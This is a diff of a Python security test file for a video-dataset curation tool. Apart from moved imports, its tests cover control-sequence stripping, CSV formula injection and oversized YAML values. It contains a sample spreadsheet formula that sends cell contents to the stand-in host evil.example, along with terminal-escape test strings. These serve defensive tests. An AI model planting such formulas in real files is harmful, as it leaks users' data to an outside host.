@@ -14,13 +14,13 @@ import pyarrow.parquet as pq
 import pytest
 
 from tests.fixtures.media import ffmpeg, make_source
-from vaar.curation.download import DownloadConfig
-from vaar.curation.loopback import LoopbackServer, RangeHandler
+from vaar.core.errors import ConfigError
+from vaar.curation.build.download import DownloadConfig
+from vaar.curation.build.loopback import LoopbackServer, RangeHandler
+from vaar.curation.build.pipeline import BuildConfig, run_build
 from vaar.curation.mp4 import facts as mp4facts
 from vaar.curation.mp4.box import BoxError, child, children
 from vaar.curation.mp4.table import SampleTable
-from vaar.curation.pipeline import BuildConfig, run_build
-from vaar.errors import ConfigError
 
 HEADER = "clip_id,url,start,end,label,source_id,license,notes\n"
 FAST = BuildConfig(workers=1, download=DownloadConfig(retries=0, backoff_s=0.05, allow_private_network=True),
@@ -168,7 +168,7 @@ def test_finding9_server_text_never_reaches_terminal_manifest_or_audit(tmp_path:
 
 
 def test_strip_controls_removes_every_sequence() -> None:
-    from vaar._util.textsafe import one_line, strip_controls
+    from vaar.core.textsafe import one_line, strip_controls
 
     assert strip_controls(f"a{OSC}b") == "ab"
     assert strip_controls("x\x1bPq#0;2;0;0;0\x1b\\y\x1b_apc\x9cz\u202eevil") == "xyzevil"
@@ -182,9 +182,9 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A2;"open")'
 
 
 def test_finding10_candidate_column_name_never_starts_a_formula(tmp_path: Path) -> None:
+    from vaar.core.taxonomy import default_taxonomy
     from vaar.curation.review.candidates import read_candidates
     from vaar.curation.review.decisions import DecisionStore
-    from vaar.taxonomy import default_taxonomy
 
     cands_csv = tmp_path / "cands.csv"
     cands_csv.write_text(f'clip_id,url,start,end,label,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
@@ -211,7 +211,7 @@ def test_finding11_huge_csv_field_is_one_line_in_build_check_and_review(tmp_path
 
 
 def test_finding11_huge_integer_in_yaml_is_one_line(tmp_path: Path) -> None:
-    from vaar._util.yamlsafe import YamlRefused, load_yaml
+    from vaar.core._util.yamlsafe import YamlRefused, load_yaml
 
     with pytest.raises(YamlRefused, match="cannot be read"):
         load_yaml("n: " + "9" * 5000 + "\n")
